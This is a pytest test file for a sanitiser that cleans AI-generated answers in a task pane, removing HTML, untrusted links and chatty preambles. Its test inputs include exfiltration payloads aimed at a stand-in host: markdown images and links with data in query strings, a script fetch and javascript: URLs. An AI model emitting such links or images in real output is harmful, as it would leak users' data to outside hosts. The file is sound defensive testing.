"""Output sanitising for the task pane: HTML, exfiltration links, preambles."""

from __future__ import annotations

import pytest

from backend.skills.sanitize import host_allowed, sanitize_output, strip_html, strip_preamble, strip_untrusted_links


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Hi <b>there</b>", "Hi there"),
        ('<img src="https://evil.example/x?d=secret">Done', "Done"),
        ("<script>fetch('https://evil.example')</script>Safe", "Safe"),
        ("A<!-- hidden -->B", "AB"),
        ('<a href="javascript:alert(1)">click</a>', "click"),
        ("see <https://evil.example/?q=1> now", "see  now"),
        ("=IF(A1<B1,1,0) and C1>D1", "=IF(A1<B1,1,0) and C1>D1"),
        ("x <> y and a < b > c", "x <> y and a < b > c"),
        ("<<<DATA selection 9f1c>>>\nHello\n<<<END DATA selection 9f1c>>>", "\nHello\n"),
        ("a << b and c >> d", "a << b and c >> d"),
    ],
)
def test_strip_html(text, expected):
    """Tags, comments, scripts and autolinks go; comparisons in formulas stay."""
    assert strip_html(text) == expected


def test_images_and_links_outside_the_allow_list_are_removed():
    """Images vanish, links keep only their words, allow-listed hosts (and subdomains) survive."""
    text = (
        "Summary ![x](https://evil.example/p.png?d=Q3%20revenue) done. "
        "[docs](https://learn.microsoft.com/excel) [click](https://evil.example/?d=1) "
        '![ok](https://cdn.contoso.com/logo.png "Logo") ![ref][1]\n[1]: https://evil.example/r.png'
    )
    clean = strip_untrusted_links(text, ["microsoft.com", "contoso.com"])
    assert "evil.example" not in clean
    assert "[docs](https://learn.microsoft.com/excel)" in clean
    assert "click" in clean and "![ok](https://cdn.contoso.com/logo.png" in clean


@pytest.mark.parametrize(
    "text",
    [
        "[a [b] c](https://evil.example/?d=secret)",
        "[a [b [c] d] e](https://evil.example/?d=secret)",
        "![alt [x] y](https://evil.example/p.png?d=secret)",
        "[x]( https://evil.example/?d=secret 'title')",
    ],
)
def test_links_with_brackets_in_their_text_are_no_way_around_the_allow_list(text):
    """Markdown allows balanced brackets in a link's words: such a link to another host loses its target too."""
    clean = sanitize_output(f"See {text} now.", ["microsoft.com"])
    assert "evil.example" not in clean and "secret" not in clean
    assert sanitize_output("[a [b] c](https://learn.microsoft.com/x)", ["microsoft.com"]).endswith("microsoft.com/x)")


@pytest.mark.parametrize(
    "url",
    ["http://evilmicrosoft.com/x", "javascript:alert(1)", "data:image/png;base64,AA", "/relative", "//evil.example/x"],
)
def test_host_allowed_rejects_lookalikes_and_other_schemes(url):
    """Only http(s) URLs whose host is, or is under, an allowed host pass."""
    assert not host_allowed(url, ["microsoft.com"])


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Certainly! Here is the rewritten text:\nNew text.", "New text."),
        ("Sure, here's a more formal version:\n\nDear Sir,\nThanks.", "Dear Sir,\nThanks."),
        ("Here is the translation:\nBonjour.", "Bonjour."),
        ("Of course!\nBonjour.", "Bonjour."),
        ("New text.\n\nLet me know if you want changes.", "New text."),
        ("```\nNew text.\n```", "New text."),
        ('"New text."', "New text."),
        ("Here is what I think matters: nothing.", "Here is what I think matters: nothing."),
        ("The result: here it is.", "The result: here it is."),
    ],
)
def test_strip_preamble(answer, expected):
    """Chatty wrappers go; text that merely contains similar words stays."""
    assert strip_preamble(answer) == expected


def test_sanitize_output_applies_preamble_rule_only_for_rewrite_style():
    """Other skills keep an opening line; everything is stripped of HTML and untrusted links."""
    answer = "Sure! Here is the summary:\n<b>Growth</b> ![t](https://evil.example/t?d=1)"
    assert sanitize_output(answer, rewrite_style=True) == "Growth"
    assert sanitize_output(answer) == "Sure! Here is the summary:\nGrowth"


@pytest.mark.parametrize(
    "text",
    [
        "Here are the dates:\n- 3 May\n- 9 May",
        "I have three questions:\n1. Who signs?\n2. When?",
        "I've attached the following:\nthe signed contract.",
        "Dear Tom,\nThe meeting moved to Friday.\nLet me know if Friday works for you.",
        "Hi all,\nThe office is closed on Monday.\nFeel free to work from home.",
        "Dinner is on us this year.\nWould you like to bring a guest?",
    ],
)
def test_document_text_that_looks_like_chat_is_kept(text):
    """A rewritten e-mail that opens with 'Here are...:' or ends with 'Let me know if...' is the user's own text:
    only openers and offers about the answer itself go."""
    assert strip_preamble(text) == text


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Here's the passage rewritten in a friendly tone:\nHi all!", "Hi all!"),
        ("I've made it more concise:\nShort text.", "Short text."),
        ("Short text.\n\nLet me know if you'd like any other changes.", "Short text."),
        ("Short text.\nI hope this helps!", "Short text."),
        ("Short text.\n\nWould you like me to make it shorter?", "Short text."),
        ("Short text.\nFeel free to ask for another version.", "Short text."),
    ],
)
def test_openers_and_offers_about_the_answer_still_go(answer, expected):
    """The chatty wrapper of an answer is removed as before."""
    assert strip_preamble(answer) == expected
